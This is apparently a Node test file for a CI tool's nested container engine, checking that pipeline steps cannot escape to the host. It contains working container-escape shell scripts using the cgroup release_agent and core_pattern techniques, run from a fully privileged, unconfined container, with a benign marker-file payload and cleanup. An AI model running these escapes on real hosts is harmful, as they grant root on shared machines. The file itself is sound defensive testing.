import { after, test } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, rmdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { hostEngine, nestor } from '../helpers.ts';
import { provision } from '../../src/engine/nested/provision.ts';
import { ImageSupply, pullInto } from '../../src/engine/images/supply.ts';
import { assertNoHostPrivilege, processesOf } from './host-processes.ts';

/**
 * A job's step asks its own engine for an all-capabilities container and tries to run code as
 * root on the host: through the cgroup v1 release_agent, and through core_pattern. The payload
 * only creates a marker file in a temporary folder of the host; the test puts back what it
 * touched. In the default mode the marker must never appear; in a trusted dind-caps engine it
 * does, which shows that the test catches an escape.
 */
const host = await hostEngine();
const work = mkdtempSync(join(tmpdir(), 'nestor-escape-'));
chmodSync(work, 0o755);
const marker = join(work, 'marker');
const payload = join(work, 'payload.sh');
writeFileSync(payload, `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
const cgroupName = `nestor-escape-${process.pid}`;
const releaseAgents = ['memory', 'pids', 'cpu', 'rdma'].map((c) => `/sys/fs/cgroup/${c}/release_agent`).filter(existsSync);
const before = new Map(releaseAgents.map((f) => [f, readFileSync(f, 'utf8')]));
const corePattern = readFileSync('/proc/sys/kernel/core_pattern', 'utf8');

after(() => {
  // Whatever an escape managed to change on the host, put it back.
  for (const [file, value] of before) if (readFileSync(file, 'utf8') !== value) writeFileSync(file, value.trim() || '\n');
  // A cgroup goes with rmdir, once empty (its process has exited by now).
  for (const c of ['memory', 'pids', 'cpu', 'rdma']) if (existsSync(`/sys/fs/cgroup/${c}/${cgroupName}`)) rmdirSync(`/sys/fs/cgroup/${c}/${cgroupName}`);
  if (readFileSync('/proc/sys/kernel/core_pattern', 'utf8') !== corePattern) writeFileSync('/proc/sys/kernel/core_pattern', corePattern);
  rmSync(work, { recursive: true, force: true });
});

/** The release_agent attack, run by a step in its job's engine. */
const releaseAgentAttack = String.raw`
d=""
for c in memory pids cpu rdma; do if [ -e /cg/$c/release_agent ]; then d=/cg/$c; break; fi; done
if [ -z "$d" ]; then mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && d=/tmp/cg; fi
if [ -z "$d" ]; then echo "attack: no cgroup hierarchy to write"; exit 0; fi
mkdir -p "$d/${cgroupName}" && echo 1 > "$d/${cgroupName}/notify_on_release" || { echo "attack: cannot make a cgroup"; exit 0; }
echo ${payload} > "$d/release_agent" || { echo "attack: release_agent refused"; exit 0; }
sh -c "echo \$\$ > $d/${cgroupName}/cgroup.procs; sleep 0.2"
sleep 2
echo "attack: release_agent written"
`;

const coreAttack = String.raw`
for f in /proc/sys/kernel/core_pattern /k/core_pattern; do echo "|${payload}" > $f && echo "attack: wrote $f"; done
sh -c 'kill -SEGV $$'
sleep 1
echo "attack: crashed"
`;

/** A repository whose one step hands `attack` to an all-capabilities container of its job's engine. */
function pipelineDir(attack: string, extraMount = ''): string {
  const dir = mkdtempSync(join(tmpdir(), 'nestor-escape-job-'));
  writeFileSync(join(dir, 'attack.sh'), attack);
  writeFileSync(
    join(dir, '.nestor.yml'),
    [
      'name: escape',
      'steps:',
      '  - name: attack',
      '    image: docker:27-cli',
      '    commands:',
      `      - docker run -i --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined -v /sys/fs/cgroup:/cg ${extraMount} busybox:latest sh < attack.sh`,
      '',
    ].join('\n'),
  );
  return dir;
}

async function markerAppears(): Promise<boolean> {
  for (let i = 0; i < 20 && !existsSync(marker); i++) await new Promise((r) => setTimeout(r, 100));
  return existsSync(marker);
}

test('default mode: a step cannot reach the host through the cgroup release_agent', { timeout: 240_000 }, async () => {
  rmSync(marker, { force: true });
  const r = await nestor(['run', '-C', pipelineDir(releaseAgentAttack)]);
  assert.match(r.stdout + r.stderr, /\(rootless\)/, 'the default mode is the rootless engine');
  assert.match(r.stdout, /attack: (cannot make a cgroup|release_agent refused|no cgroup hierarchy)/, r.stdout + r.stderr);
  assert.equal(await markerAppears(), false, 'the payload ran on the host');
  for (const [file, value] of before) assert.equal(readFileSync(file, 'utf8'), value, `${file} is unchanged`);
});

test('default mode: a step cannot reach the host through core_pattern', { timeout: 240_000 }, async () => {
  rmSync(marker, { force: true });
  const r = await nestor(['run', '-C', pipelineDir(coreAttack, '-v /proc/sys/kernel:/k')]);
  assert.match(r.stdout, /attack: crashed/, r.stdout + r.stderr);
  assert.doesNotMatch(r.stdout, /attack: wrote/);
  assert.equal(readFileSync('/proc/sys/kernel/core_pattern', 'utf8'), corePattern, 'core_pattern is unchanged');
  assert.equal(await markerAppears(), false);
});

test('the same release_agent attack in a trusted dind-caps engine does reach the host (the test catches an escape)', { timeout: 240_000 }, async () => {
  rmSync(marker, { force: true });
  const r = await nestor(['run', '--mode', 'dind-caps', '-C', pipelineDir(releaseAgentAttack)]);
  assert.match(r.stdout, /attack: release_agent written/, r.stdout + r.stderr);
  assert.equal(await markerAppears(), true, 'the payload ran as root on the host');
});

test('no process of a default-mode engine runs as host root or holds a capability in the host user namespace', { timeout: 120_000 }, async () => {
  const supply = await ImageSupply.start(host);
  const engine = await provision({ host, daemon: supply.daemonOptions() });
  try {
    assert.equal(engine.isolation, 'rootless');
    // A job's container running in it, as root inside, with every capability there.
    await pullInto(engine, 'busybox:latest');
    const step = await engine.docker.createContainer({ Image: 'busybox:latest', Cmd: ['sleep', '60'], HostConfig: { CapAdd: ['ALL'] } });
    await step.start();
    const info = await host.docker.getContainer(engine.containerId!).inspect();
    const pids = processesOf(info.Id);
    assert.ok(pids.length >= 4, `found the engine's processes: ${pids.join(' ')}`);
    assertNoHostPrivilege(pids);
  } finally {
    await engine.destroy();
    await supply.close();
  }
});
